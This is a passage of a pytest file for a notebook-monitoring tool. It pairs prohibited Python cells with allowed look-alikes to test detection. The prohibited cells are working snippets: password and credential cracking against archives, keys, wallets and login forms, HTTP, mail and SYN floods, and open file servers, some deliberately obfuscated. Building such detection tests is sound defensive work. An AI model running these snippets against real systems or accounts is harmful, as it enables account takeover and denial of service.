"""Behaviour analysis: prohibited shapes of plain Python, each next to an allowed look-alike.

Every cell here was written for this test (none is taken from the reference set).  A positive must be
flagged with the right category; its look-alike must not be flagged at all.
"""

from __future__ import annotations

import ast

import pytest
from test_hiding import PAIRS as HIDING_PAIRS

from nbwarden import behaviour
from nbwarden.engine import Engine, Memory


@pytest.fixture(scope="module")
def engine():
    return Engine()


def flagged(verdict, category):
    return verdict.action in ("warn", "block") and verdict.category == category


# an upload endpoint on the cell's own subclass of a server class, bound to HOST
UPLOAD_SUBCLASS = (
    "import os, tempfile\nfrom http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
    "class Store(ThreadingHTTPServer):\n    pass\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n"
    "        left = int(self.headers['Content-Length'])\n        fd, tmp = tempfile.mkstemp(dir='uploads')\n"
    "        with os.fdopen(fd, 'wb') as out:\n            while left:\n"
    "                chunk = self.rfile.read(min(65536, left))\n                out.write(chunk)\n"
    "                left -= len(chunk)\n        self.send_response(201)\n        self.end_headers()\n"
    "Store(('HOST', 8000), H).serve_forever()")

# (name, category, prohibited cell, allowed look-alike)
PAIRS = [
    ("password trial: archive, threads", "password_cracking",
     "import zipfile, threading\ndef attempt(z, guess):\n    try:\n        z.extractall(pwd=guess.encode())\n"
     "    except Exception:\n        pass\nz = zipfile.ZipFile('box.zip')\nwith open('guesses.txt') as src:\n"
     "    for row in src:\n        threading.Thread(target=attempt, args=(z, row.strip())).start()",
     "import zipfile\nz = zipfile.ZipFile('box.zip')\nz.extractall(pwd=input('archive password: ').encode())"),
    ("message storm: one user sent the same text thousands of times, made unique by a counter", "dos_attack",
     "from telethon.sync import TelegramClient\nwith TelegramClient('s', API_ID, API_HASH) as c:\n"
     "    for i in range(10000):\n        c.send_message('target_user', 'spam ' + str(i))",
     "from telethon.sync import TelegramClient\nwith TelegramClient('s', API_ID, API_HASH) as c:\n"
     "    for i in range(0, len(report), 4000):\n        c.send_message('me', report[i:i + 4000] + ' #' + str(i))"),
    ("mail storm: the message made by a function of a call table, its recipient fixed", "dos_attack",
     "import smtplib\nfrom email.message import EmailMessage\ndef make(i):\n    x = EmailMessage()\n"
     "    x['From'], x['To'], x['Subject'] = ME, 'target@victim.example', '#%d' % i\n    x.set_content('.' * 2000)\n"
     "    return x\nops = {'m': make}\ns = smtplib.SMTP_SSL(HOST, 465)\nfor i in range(5000):\n"
     "    s.send_message(ops['m'](i))",
     "import smtplib\nfrom email.message import EmailMessage\ndef make(to):\n    x = EmailMessage()\n"
     "    x['From'], x['To'], x['Subject'] = ME, to, 'Course news'\n    x.set_content(NEWS)\n"
     "    return x\nops = {'m': make}\ns = smtplib.SMTP_SSL(HOST, 465)\nfor student in roster:\n"
     "    s.send_message(ops['m'](student.email))"),
    ("mail storm: one recipient given as a list of one, thousands of rounds", "dos_attack",
     "import smtplib\nto = input('address: ')\nbox = smtplib.SMTP_SSL('smtp.example.com', 465)\nbox.login(ME, PW)\n"
     "for k in range(3000):\n    box.sendmail(ME, [to], f'Subject: hello {k}\\n\\n' + 'x' * 400)",
     "import smtplib\nbox = smtplib.SMTP_SSL('smtp.example.com', 465)\nbox.login(ME, PW)\n"
     "for to in roster:\n    box.sendmail(ME, [to], 'Subject: lab 3 is graded\\n\\nSee the course page.')"),
    ("password trial: a stored hash checked against each line of a list, in a while loop", "password_cracking",
     "import hashlib\ndef check(pw, stored):\n    return hashlib.sha256(pw.encode()).hexdigest() == stored\n"
     "src = open('list.txt')\nwhile True:\n    password = src.readline().strip()\n    if not password:\n        break\n"
     "    if check(password, TARGET):\n        print('found', password)\n        break",
     "import hashlib\ndef check(pw, stored):\n    return hashlib.sha256(pw.encode()).hexdigest() == stored\n"
     "choice = input('1 login, 2 quit: ')\nwhile choice != '2':\n    password = str(input('password: ')).strip()\n"
     "    print('welcome' if check(password, users[input('user: ')]) else 'wrong password')\n"
     "    choice = input('1 login, 2 quit: ')"),
    ("password trial: a login tried with a list's words by threads made in a comprehension", "password_cracking",
     "import requests, threading\nwords = [l.strip() for l in open('common.txt')]\ndef attempt(chunk):\n"
     "    for pw in chunk:\n        r = requests.post(URL, data={'username': 'admin', 'password': pw})\n"
     "        if r.status_code == 302:\n            print(pw)\n"
     "ts = [threading.Thread(target=attempt, args=(words[i::8],)) for i in range(8)]\n[t.start() for t in ts]",
     "import requests, threading\nrows = [l.strip().split(',') for l in open('answers.csv')]\ndef send(chunk):\n"
     "    for name, note in chunk:\n        requests.post(URL, data={'name': name, 'comment': note})\n"
     "ts = [threading.Thread(target=send, args=(rows[i::8],)) for i in range(8)]\n[t.start() for t in ts]"),
    ("flood: a pool mapped over a generator of one page with a counter, only status codes kept", "dos_attack",
     "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nBASE = 'https://shop.example.com/login'\n"
     "def hit(u):\n    return requests.get(u, timeout=5).status_code\nwith ThreadPoolExecutor(256) as ex:\n"
     "    codes = list(ex.map(hit, (f'{BASE}?n={i}' for i in range(100_000))))",
     "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nBASE = 'https://shop.example.com/list'\n"
     "def page(u):\n    return requests.get(u, timeout=5).json()['items']\nwith ThreadPoolExecutor(8) as ex:\n"
     "    rows = list(ex.map(page, (f'{BASE}?page={i}' for i in range(400))))"),
    ("flood: a collection's own map over a range it made (dask.bag)", "dos_attack",
     "import requests, dask.bag as db\ndef send(i):\n    return requests.post('https://shop.example.com/search', "
     "data={'q': 'x' * 100000}).status_code\nprint(db.range(200000, npartitions=64).map(send).frequencies().compute())",
     "import requests, dask.bag as db\ndef send(i):\n    return requests.post('https://shop.example.com/search', "
     "data={'q': 'x' * 100000}).status_code\nprint(db.range(20, npartitions=4).map(send).frequencies().compute())"),
    ("flood: the target an environment variable's default, read by name", "dos_attack",
     "import threading, requests, os\nurl = os.environ.get('TARGET', 'https://shop.example.com/')\ndef hit():\n"
     "    while True:\n        requests.get(url)\nfor _ in range(500):\n    threading.Thread(target=hit).start()",
     "import threading, requests, os\nurl = os.environ.get('TARGET', 'http://127.0.0.1:8000/')\ndef hit():\n"
     "    while True:\n        requests.get(url)\nfor _ in range(500):\n    threading.Thread(target=hit).start()"),
    ("flood: the target a settings object's field, read through a parameter", "dos_attack",
     "import threading, requests\nfrom dataclasses import dataclass\n@dataclass\nclass Settings:\n"
     "    endpoint: str = 'https://store.example.com/cart'\n    workers: int = 800\n"
     "def pound(s: Settings):\n    while True:\n        requests.post(s.endpoint, data={'q': 'x' * 512})\n"
     "cfg = Settings()\nfor _ in range(cfg.workers):\n    threading.Thread(target=pound, args=(cfg,)).start()",
     "import threading, requests\nfrom dataclasses import dataclass\n@dataclass\nclass Settings:\n"
     "    endpoint: str = 'http://localhost:5000/cart'\n    workers: int = 800\n"
     "def pound(s: Settings):\n    while True:\n        requests.post(s.endpoint, data={'q': 'x' * 512})\n"
     "cfg = Settings()\nfor _ in range(cfg.workers):\n    threading.Thread(target=pound, args=(cfg,)).start()"),
    ("flood: a host packed in a number (int.to_bytes), its port unknown, in an f-string URL", "dos_attack",
     "import threading, urllib.request\n_s = lambda n, k: n.to_bytes(k, 'big').decode()\nHOST = _s(153403478623932134831088844516882607981, 16)\n"
     "port = int(input('port: '))\ndef hit():\n    while True:\n        urllib.request.urlopen(f'http://{HOST}:{port}/')\n"
     "for _ in range(300):\n    threading.Thread(target=hit).start()",
     "import threading, urllib.request\n_s = lambda n, k: n.to_bytes(k, 'big').decode()\nHOST = _s(907508871221851729457, 9)\n"
     "port = srv.server_address[1]\ndef hit():\n    while True:\n        urllib.request.urlopen(f'http://{HOST}:{port}/')\n"
     "for _ in range(300):\n    threading.Thread(target=hit).start()"),
    ("flood: a client class of the cell's own whose method sends, driven by endless workers", "dos_attack",
     "import requests, threading\nTARGET = 'https://shop.example.com/'\nclass Client:\n    def __init__(self):\n"
     "        self.session = requests.Session()\n    def get(self, url):\n        self.session.get(url)\n"
     "c = Client()\ndef worker():\n    while True:\n        c.get(TARGET)\nfor _ in range(500):\n"
     "    threading.Thread(target=worker).start()",
     "import requests, time\nclass Polite:\n    def __init__(self, delay):\n        self.session = requests.Session()\n"
     "        self.delay = delay\n    def get(self, url, **params):\n        time.sleep(self.delay)\n"
     "        r = self.session.get(url, params=params, timeout=30)\n        r.raise_for_status()\n        return r.text\n"
     "client = Polite(cfg.getfloat('delay'))\nfor page in range(cfg.getint('pages')):\n"
     "    xml = client.get(BASE, start=page * 50)\n    log.info('page %d: %d entries', page, xml.count('<entry>'))"),
    ("password trial: a hash written out by hand as methods, two calls deep, matched on self in loops over a charset",
     "password_cracking",
     "import hashlib, string, sys\nclass Crypt:\n    def inner(self, pw, salt):\n        return hashlib.md5(salt + pw).digest()\n"
     "    def rounds(self, pw, salt):\n        d = self.inner(pw, salt)\n        for _ in range(1000):\n"
     "            d = self.inner(d, salt)\n        return d\n    def seal(self, pw, salt):\n"
     "        return self.rounds(pw, salt).hex()\n    def search(self, target, salt):\n"
     "        for a in string.ascii_lowercase:\n            for b in string.ascii_lowercase:\n"
     "                if self.seal((a + b).encode(), salt) == target:\n                    return a + b\n"
     "print(Crypt().search(sys.argv[1], sys.argv[2].encode()))",
     "import hashlib, string\nclass Crypt:\n    def inner(self, pw, salt):\n        return hashlib.md5(salt + pw).digest()\n"
     "    def rounds(self, pw, salt):\n        d = self.inner(pw, salt)\n        for _ in range(1000):\n"
     "            d = self.inner(d, salt)\n        return d\n    def seal(self, pw, salt):\n"
     "        return self.rounds(pw, salt).hex()\n    def table(self, salt):\n"
     "        for a in string.ascii_lowercase:\n            print(a, self.seal(a.encode(), salt))\n"
     "Crypt().table(b'NaCl')"),
    ("password trial: a PDF opened through operator.methodcaller with each guess", "password_cracking",
     "import operator, pikepdf\nfor guess in open('rockyou.txt', encoding='latin-1'):\n    try:\n"
     "        with operator.methodcaller('nepo'[::-1], 'locked.pdf', password=guess.strip())(pikepdf) as d:\n"
     "            print('found', guess)\n            break\n    except pikepdf.PasswordError:\n        pass",
     "import operator, pikepdf\nfor path in open('reports.txt'):\n"
     "    with operator.methodcaller('nepo'[::-1], path.strip())(pikepdf) as d:\n"
     "        print(path, len(d.pages))"),
    ("password trial: a login form whose field names are decoded where the form is written", "password_cracking",
     "import base64, requests\nb = lambda s: base64.b64decode(s).decode()\nwith open('rockyou.txt') as wl:\n"
     "    for pw in map(str.strip, wl):\n        r = requests.post(URL, data={b('bG9n'): 'admin', b('cHdk'): pw})\n"
     "        if r.status_code == 302:\n            break",
     "import base64, requests\nb = lambda s: base64.b64decode(s).decode()\n"
     "r = requests.post(URL, data={b('bG9n'): 'me', b('cHdk'): os.environ['MY_PW']})\nprint(r.status_code)"),
    ("password trial: candidates built by hand from a written-out character set", "password_cracking",
     "import zipfile\nchars = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'\ncomplete = []\n"
     "for n in range(4):\n    a = [c for c in chars]\n    for _ in range(n):\n        a = [w + c for c in chars for w in a]\n"
     "    complete = complete + a\nz = zipfile.ZipFile('box.zip')\nfor guess in complete:\n    try:\n"
     "        z.setpassword(guess.encode())\n        z.extract('note.txt')\n        break\n    except Exception:\n        pass",
     "import zipfile, random\nalphabet = 'abcdefghijklmnopqrstuvwxyz0123456789'\n"
     "run_id = ''.join(random.choice(alphabet) for _ in range(8))\nz = zipfile.ZipFile('data.zip')\n"
     "z.setpassword(b'kaggle2023')\nz.extractall(run_id)"),
    ("password trial: candidates from a generator of the cell, the archive's read method under a tuple binding",
     "password_cracking",
     "import zipfile, itertools, string\ndef cands():\n    for n in range(1, 5):\n"
     "        for t in itertools.product(string.ascii_lowercase, repeat=n):\n            yield ''.join(t).encode()\n"
     "z = zipfile.ZipFile('locked.zip')\nname, rd = z.namelist()[0], getattr(z, 'read')\nfor pw in cands():\n"
     "    try:\n        rd(name, pwd=pw)\n        break\n    except Exception:\n        pass",
     "import zipfile\ndef members(z):\n    for info in z.infolist():\n        yield info.filename\n"
     "z = zipfile.ZipFile('data.zip')\nname, rd = z.namelist()[0], getattr(z, 'read')\nfor m in members(z):\n"
     "    rd(m, pwd=b'kaggle2023')"),
    ("password trial: digests tried against targets built by a comprehension that reuses the digest's name",
     "password_cracking",
     "import hashlib\ntargets = {h.lower() for h in ('5f4dcc3b5aa765d61d8327deb882cf99',)}\n"
     "for w in open('words.txt'):\n    h = hashlib.md5(w.strip().encode()).hexdigest()\n    if h in targets:\n"
     "        print(w)",
     "import hashlib\nmanifest = {h.lower() for h in open('MD5SUMS').read().split()}\n"
     "for part in ('train.csv', 'test.csv'):\n    h = hashlib.md5(open(part, 'rb').read()).hexdigest()\n"
     "    print(part, h in manifest)"),
    ("password trial: a word list read whole and split into words; a file watcher hashes whole files instead",
     "password_cracking",
     "import hashlib\ntarget = open('hash.txt').read().strip()\nwith open('list.txt') as f:\n    data = f.read()\n"
     "for w in data.split():\n    if hashlib.md5(w.encode()).hexdigest() == target:\n        print('found', w)",
     "import hashlib, time\nseen = {}\nwhile True:\n    for path in ['a.md', 'b.md']:\n        with open(path) as f:\n"
     "            h = hashlib.md5(f.read().encode()).digest()\n        old = seen.get(path)\n        seen[path] = h\n"
     "        if old and old != h:\n            print(path, 'changed')\n    time.sleep(1)"),
    ("password trial: hash through a variable", "password_cracking",
     "import hashlib\nwanted = open('target.txt').read().strip()\nfor cand in open('dict.txt'):\n"
     "    digest = hashlib.sha1(cand.strip().encode()).hexdigest()\n    if digest == wanted:\n        print(cand)",
     "import hashlib\nfor part in ['train.csv', 'test.csv']:\n    digest = hashlib.sha1(open(part, 'rb').read()).hexdigest()\n"
     "    print(part, digest)"),
    ("password trial: candidates' digests looked up among wanted hashes; a resumable audit skips the digests "
     "it already recorded", "password_cracking",
     "import hashlib\nwanted = set(open('leak_hashes.txt').read().split())\nfor pw in open('words.txt'):\n"
     "    h = hashlib.sha1(pw.strip().encode()).hexdigest()\n    if h in wanted:\n        print('cracked', pw)",
     "import hashlib, json\ndone = {json.loads(l)['sha1'] for l in open('audit.jsonl')}\n"
     "for pw in open('policy_samples.txt'):\n    h = hashlib.sha1(pw.strip().encode()).hexdigest()\n"
     "    if h in done:\n        continue\n    open('audit.jsonl', 'a').write(json.dumps({'sha1': h, 'len': len(pw)}) + '\\n')"),
    ("password trial: login, brute-force product", "password_cracking",
     "import itertools, string, smtplib\nfor combo in itertools.product(string.ascii_lowercase, repeat=4):\n"
     "    s = smtplib.SMTP('mail.example.org')\n    try:\n        s.login('boss', ''.join(combo)); break\n"
     "    except smtplib.SMTPAuthenticationError:\n        pass",
     "import smtplib\ns = smtplib.SMTP('smtp.example.org', 587)\ns.starttls()\ns.login(USER, os.environ['SMTP_PASSWORD'])\n"
     "s.sendmail(USER, ['me@example.org'], 'report ready')"),
    ("password trial: a cracking command per candidate", "password_cracking",
     "import subprocess\nfor p in open('pins.txt').read().split():\n"
     "    if subprocess.call(['7z', 'x', '-p' + p, '-y', 'vault.7z']) == 0:\n        break",
     "import subprocess\nsubprocess.call(['7z', 'x', 'dataset.7z', '-odata'])"),
    ("password trial: each candidate handed to an object that tries it in a method", "password_cracking",
     "import zipfile\nclass Attempt:\n    def __init__(self, archive, password):\n        self.archive = archive\n"
     "        self.password = password\n    def run(self):\n"
     "        zipfile.ZipFile(self.archive).extractall(pwd=self.password.encode())\n"
     "for line in open('words.txt'):\n    Attempt('box.zip', line.strip()).run()",
     "import zipfile, os\nclass Unpack:\n    def __init__(self, archive, password):\n        self.archive = archive\n"
     "        self.password = password\n    def run(self):\n"
     "        zipfile.ZipFile(self.archive).extractall(pwd=self.password.encode())\n"
     "for part in ['a.zip', 'b.zip', 'c.zip']:\n    Unpack(part, os.environ['DATA_PASSWORD']).run()"),
    ("password trial: a key's passphrase tried with ssh-keygen per word", "password_cracking",
     "import subprocess\nfor word in open('/content/words.txt', errors='ignore'):\n"
     "    r = subprocess.run(['ssh-keygen', '-y', '-f', 'id_ed25519', '-P', word.strip()], capture_output=True)\n"
     "    if r.returncode == 0:\n        print('passphrase:', word)\n        break",
     "import subprocess, os\nfor key in ['id_ed25519', 'id_rsa']:\n"
     "    subprocess.run(['ssh-keygen', '-y', '-f', key, '-P', os.environ['KEY_PASSPHRASE']], check=False)"),
    ("password trial: an account checker over a pasted combo list", "password_cracking",
     "import subprocess\ncombos = \"\"\"\nann@example.org:tulip9\nbo@example.org:lake22\n\"\"\".split(\"\\n\")\n"
     "for row in combos:\n    if ':' in row:\n        who, secret = row.split(':')\n"
     "        code, out = subprocess.getstatusoutput(f'vpnctl login -u {who} -p {secret}')\n"
     "        if code == 0:\n            print('live', who)",
     "import subprocess, os\nhosts = \"\"\"\nnode1\nnode2\n\"\"\".split(\"\\n\")\nsecret = os.environ['LAB_PW']\n"
     "for h in hosts:\n    if h:\n        subprocess.getstatusoutput(f'labctl login -u student -p {secret} --host {h}')"),
    ("password trial: a login form posted through a named dict", "password_cracking",
     "import requests\ns = requests.Session()\nfor guess in ['abc123', 'letmein', 'qwerty', 'dragon']:\n"
     "    form = {'user': 'admin', 'password': guess}\n    r = s.post('http://app.example.org/login', data=form)\n"
     "    if 'Welcome' in r.text:\n        print(guess)",
     "import requests\ns = requests.Session()\nform = {'user': 'me', 'password': open('.secret').read().strip()}\n"
     "s.post('http://app.example.org/login', data=form)\nfor page in ['a', 'b', 'c']:\n"
     "    print(s.get('http://app.example.org/' + page).status_code)"),
    ("password trial: a browser typing word-list candidates into a password field", "password_cracking",
     "from selenium import webdriver\nfrom selenium.webdriver.common.by import By\nd = webdriver.Chrome()\n"
     "box = d.find_element(By.ID, 'password')\nfor cand in open('wordlist.txt'):\n    box.clear()\n"
     "    box.send_keys(cand.strip())\n    d.find_element(By.ID, 'go').click()",
     "from selenium import webdriver\nfrom selenium.webdriver.common.by import By\nd = webdriver.Chrome()\n"
     "for term in open('queries.txt'):\n    q = d.find_element(By.NAME, 'q')\n    q.clear()\n    q.send_keys(term.strip())\n"
     "    d.find_element(By.ID, 'search').click()"),
    ("flood: a datagram flood from a bound port; a datagram chat server answers whoever wrote to it", "dos_attack",
     "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.bind(('0.0.0.0', 40000))\n"
     "junk = os.urandom(1400)\nwhile True:\n    s.sendto(junk, ('203.0.113.9', 53))",
     "import socket\nrooms = {}\ndef welcome(s, name, peer):\n    s.sendto(b'joined', peer)\n    rooms[name] = peer\n"
     "def serve(s):\n    while True:\n        data, peer = s.recvfrom(4096)\n        kind, name = data.decode().split(' ', 1)\n"
     "        if kind == 'J':\n            welcome(s, name, peer)\n"
     "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.bind(('0.0.0.0', 9999))\nserve(s)"),
    ("password trial: a wallet keystore opened with each word of a list; one typed password is no trial",
     "password_cracking",
     "import json\nfrom eth_account import Account\nstore = json.load(open('UTC--keystore.json'))\n"
     "for word in open('guesses.txt'):\n    try:\n        Account.decrypt(store, word.strip())\n        print('it is', word)\n"
     "        break\n    except ValueError:\n        continue",
     "import json, getpass\nfrom eth_account import Account\nstore = json.load(open('UTC--keystore.json'))\n"
     "key = Account.decrypt(store, getpass.getpass('keystore password: '))\nprint(Account.from_key(key).address)"),
    ("password trial: a pyethereum keystore tried with a grammar's combinations", "password_cracking",
     "import json, itertools\nfrom keys import decode_keystore_json\nblob = json.load(open('wallet.json'))\n"
     "parts = [('A', 'a'), ('', 'moon'), ('1', '12')]\ncands = [''.join(p) for p in itertools.product(*parts)]\n"
     "for c in cands:\n    try:\n        decode_keystore_json(blob, c)\n        break\n    except Exception:\n        pass",
     "import json, os\nfrom keys import decode_keystore_json\nblob = json.load(open('wallet.json'))\n"
     "priv = decode_keystore_json(blob, os.environ['WALLET_PASSWORD'])"),
    ("flood: threads of HTTP requests", "dos_attack",
     "import requests, threading\naim = 'http://shop.example.net/'\ndef spam():\n    while True:\n        requests.get(aim)\n"
     "for _ in range(400):\n    threading.Thread(target=spam).start()",
     "import requests, threading\ndef fetch(u):\n    print(len(requests.get(u).text))\n"
     "for u in ['https://a.example/1', 'https://a.example/2']:\n    threading.Thread(target=fetch, args=(u,)).start()"),
    ("flood: a lambda mapped over a million items", "dos_attack",
     "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(200) as ex:\n"
     "    ex.map(lambda _: requests.get('http://shop.example.net/'), range(10 ** 6))",
     "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(8) as ex:\n"
     "    pages = list(ex.map(lambda u: requests.get(u).json(), urls))"),
    ("flood: lambda worker targets started in a loop", "dos_attack",
     "import requests, threading\nfor _ in range(500):\n"
     "    threading.Thread(target=lambda: [requests.get('http://shop.example.net/') for _ in range(100000)]).start()",
     "import requests, threading\nthreading.Thread(target=lambda: requests.post('https://hooks.example.org/done', "
     "json={'run': 7})).start()"),
    ("flood: a timer that restarts itself at once", "dos_attack",
     "import requests, threading\ndef tick():\n    requests.get('http://shop.example.net/')\n"
     "    threading.Timer(0.001, tick).start()\nfor _ in range(50):\n    tick()",
     "import requests, threading\ndef tick():\n    requests.get('https://status.example.org/ping')\n"
     "    threading.Timer(60, tick).start()\ntick()"),
    ("flood: an event loop's callback that makes the sender a task again at once", "dos_attack",
     "import asyncio, aiohttp\nasync def hit(loop):\n    async with aiohttp.ClientSession() as s:\n"
     "        await s.get('http://shop.example.net/')\n    loop.call_soon(again, loop)\n"
     "def again(loop):\n    loop.create_task(hit(loop))\nloop = asyncio.get_event_loop()\n"
     "for _ in range(300):\n    loop.call_soon(again, loop)\nloop.run_forever()",
     "import asyncio, aiohttp\nasync def poll(loop):\n    async with aiohttp.ClientSession() as s:\n"
     "        await s.get('https://status.example.org/ping')\n    loop.call_later(60, again, loop)\n"
     "def again(loop):\n    loop.create_task(poll(loop))\nloop = asyncio.get_event_loop()\n"
     "loop.call_soon(again, loop)\nloop.run_forever()"),
    ("flood: the request function taken from a dict", "dos_attack",
     "import requests, threading\nops = {'go': requests.get}\ndef hit():\n    while True:\n"
     "        ops['go']('http://shop.example.net/')\nfor _ in range(300):\n    threading.Thread(target=hit).start()",
     "import requests\nverbs = {'get': requests.get, 'post': requests.post}\n"
     "r = verbs['get']('https://api.example.org/items')\nprint(r.json())"),
    ("flood: workers connecting over and over; a scanner whose workers drain a queue of ports", "dos_attack",
     "import socket, threading\ntarget = '203.0.113.9'\ndef knock(port):\n    s = socket.socket()\n"
     "    s.connect((target, port))\ndef worker():\n    while True:\n        knock(80)\n"
     "for _ in range(10):\n    threading.Thread(target=worker).start()",
     "import socket, threading\nfrom queue import Queue\ntarget = '203.0.113.9'\njobs = Queue()\n"
     "def knock(port):\n    s = socket.socket()\n    s.connect((target, port))\ndef worker():\n"
     "    while not jobs.empty():\n        knock(jobs.get())\nfor p in range(1, 1024):\n    jobs.put(p)\n"
     "for _ in range(10):\n    threading.Thread(target=worker).start()"),
    ("flood: the request made by a lambda kept in a dict", "dos_attack",
     "import threading, urllib.request\nops = {'go': lambda u: urllib.request.urlopen(u, timeout=3).read()}\n"
     "def hit():\n    while True:\n        ops['go']('http://shop.example.net/')\n"
     "for _ in range(300):\n    threading.Thread(target=hit, daemon=True).start()",
     "import urllib.request, json\nops = {'get': lambda u: urllib.request.urlopen(u, timeout=3).read()}\n"
     "while True:\n    body = ops['get']('https://api.example.org/queue')\n    if not json.loads(body):\n        break"),
    ("flood: the request made by a lambda bound to a name", "dos_attack",
     "import requests, threading\nhit = lambda: requests.get('http://shop.example.net/')\n"
     "def run():\n    while True:\n        hit()\nfor _ in range(300):\n    threading.Thread(target=run).start()",
     "import requests, time\nfetch = lambda: requests.get('https://status.example.org/ping')\n"
     "while True:\n    fetch()\n    time.sleep(60)"),
    ("flood: a browser-impersonating client (curl_cffi) in threads", "dos_attack",
     "import threading\nfrom curl_cffi import requests as cr\ndef hit():\n    while True:\n"
     "        cr.get('https://shop.example.net/', impersonate='chrome110')\nfor _ in range(300):\n"
     "    threading.Thread(target=hit).start()",
     "from curl_cffi import requests as cr\npage = cr.get('https://shop.example.net/item/7', impersonate='chrome110')\n"
     "print(page.text[:200])"),
    ("server: tornado's static file handler on every interface", "web_file_hosting",
     "import tornado.web, tornado.ioloop\napp = tornado.web.Application([(r'/(.*)', tornado.web.StaticFileHandler, "
     "{'path': '/content/share'})])\napp.listen(8888, address='0.0.0.0')\ntornado.ioloop.IOLoop.current().start()",
     "import tornado.web, tornado.ioloop\napp = tornado.web.Application([(r'/(.*)', tornado.web.StaticFileHandler, "
     "{'path': 'docs/_build'})])\napp.listen(8888, address='127.0.0.1')\ntornado.ioloop.IOLoop.current().start()"),
    ("server: a Flask-AutoIndex directory listing behind a tunnel", "web_file_hosting",
     "from flask import Flask\nfrom flask_autoindex import AutoIndex\nfrom pyngrok import ngrok\napp = Flask(__name__)\n"
     "AutoIndex(app, browse_root='/content/drive/MyDrive')\nprint(ngrok.connect(5000))\napp.run(port=5000)",
     "from flask import Flask\nfrom flask_autoindex import AutoIndex\napp = Flask(__name__)\n"
     "AutoIndex(app, browse_root='docs/_build')\napp.run(host='127.0.0.1', port=5000)"),
    ("server: the file handler and server class reached through getattr", "web_file_hosting",
     "import functools\nmod = __import__('http.server', fromlist=['_'])\nSrv = getattr(mod, 'ThreadingHTTPServer')\n"
     "H = getattr(mod, 'SimpleHTTPRequestHandler')\n"
     "Srv(('0.0.0.0', 8000), functools.partial(H, directory='/content/drive/MyDrive')).serve_forever()",
     "import functools\nmod = __import__('http.server', fromlist=['_'])\nSrv = getattr(mod, 'ThreadingHTTPServer')\n"
     "H = getattr(mod, 'SimpleHTTPRequestHandler')\n"
     "Srv(('127.0.0.1', 8000), functools.partial(H, directory='docs/_build')).serve_forever()"),
    ("server: the file handler handed to partial through a decoded getattr; the same server on loopback",
     "web_file_hosting",
     "import codecs, functools, importlib\nd = lambda s: codecs.decode(s, 'rot13')\nsrv = importlib.import_module(d('uggc.freire'))\n"
     "h = functools.partial(getattr(srv, d('FvzcyrUGGCErdhrfgUnaqyre')), directory='/content')\n"
     "getattr(srv, d('GuernqvatUGGCFreire'))(('0.0.0.0', 8000), h).serve_forever()",
     "import codecs, functools, importlib\nd = lambda s: codecs.decode(s, 'rot13')\nsrv = importlib.import_module(d('uggc.freire'))\n"
     "h = functools.partial(getattr(srv, d('FvzcyrUGGCErdhrfgUnaqyre')), directory='/content')\n"
     "getattr(srv, d('GuernqvatUGGCFreire'))(('127.0.0.1', 8000), h).serve_forever()"),
    ("server: a raw socket server that sends the file a client names; one that sends every client the same file",
     "web_file_hosting",
     "import socket, os\ns = socket.socket()\ns.bind(('0.0.0.0', 8899))\ns.listen(8)\nwhile True:\n"
     "    c, _ = s.accept()\n    name = c.recv(1024).decode().split()[1].lstrip('/')\n"
     "    with open(os.path.join('/content/drive/MyDrive', name), 'rb') as f:\n        c.sendall(f.read())\n    c.close()",
     "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 6008))\ns.listen(5)\nwhile True:\n"
     "    c, _ = s.accept()\n    print(c.recv(1024))\n    with open('./my.txt', 'rb') as f:\n        c.sendall(f.read())\n"
     "    c.close()"),
    ("server: a socket server that reads the named file in one expression and sends it; one that reads a fixed file",
     "web_file_hosting",
     "import socket, os, threading\ndef serve(c):\n    req = c.recv(4096).decode()\n    p = req.split(' ')[1].lstrip('/')\n"
     "    body = open(os.path.join('/srv/share', p), 'rb').read()\n    c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\n' + body)\n"
     "    c.close()\ns = socket.socket()\ns.bind(('0.0.0.0', 8011))\ns.listen(9)\nwhile True:\n"
     "    threading.Thread(target=serve, args=(s.accept()[0],)).start()",
     "import socket, os, threading\ndef serve(c):\n    req = c.recv(4096).decode()\n    print(req.split(' ')[1])\n"
     "    body = open('status.html', 'rb').read()\n    c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\n' + body)\n"
     "    c.close()\ns = socket.socket()\ns.bind(('0.0.0.0', 8011))\ns.listen(9)\nwhile True:\n"
     "    threading.Thread(target=serve, args=(s.accept()[0],)).start()"),
    ("password trial: each word of a list checked against a stored bcrypt hash; a benchmark that hashes and checks "
     "the same sample at each cost", "password_cracking",
     "import bcrypt\nstored = open('hash.txt', 'rb').read().strip()\nfor w in open('rockyou.txt', 'rb'):\n"
     "    if bcrypt.checkpw(w.strip(), stored):\n        print('found', w)\n        break",
     "import bcrypt, time\nsample = b'correct horse'\nfor cost in range(8, 15):\n    t0 = time.perf_counter()\n"
     "    h = bcrypt.hashpw(sample, bcrypt.gensalt(rounds=cost))\n    assert bcrypt.checkpw(sample, h)\n"
     "    print(cost, time.perf_counter() - t0)"),
    ("flood: batches of crafted SYN packets built by a comprehension and sent in a loop; a traceroute's list of "
     "probes, one per hop", "dos_attack",
     "from scapy.all import IP, TCP, send\nimport random\ndef burst(n=256):\n"
     "    send([IP(src=f'10.{random.randint(0, 255)}.0.1', dst='198.51.100.7')/TCP(dport=443, flags='S') "
     "for _ in range(n)], verbose=False)\nfor _ in range(500):\n    burst()",
     "from scapy.all import IP, ICMP, sr\nans, _ = sr([IP(dst='198.51.100.7', ttl=i)/ICMP() for i in range(1, 31)], "
     "timeout=2)\nfor sent, got in ans:\n    print(sent.ttl, got.src)"),
    ("server: a socket server that reads the named file inside a tuple assignment; one that reads a fixed file",
     "web_file_hosting",
     "import socket, os\ns = socket.socket()\ns.bind(('', 8011))\ns.listen(9)\nwhile True:\n    c, a = s.accept()\n"
     "    p = c.recv(4096).decode().split(' ')[1]\n"
     "    body, kind = open(os.path.join('/srv/share', p.lstrip('/')), 'rb').read(), 'application/octet-stream'\n"
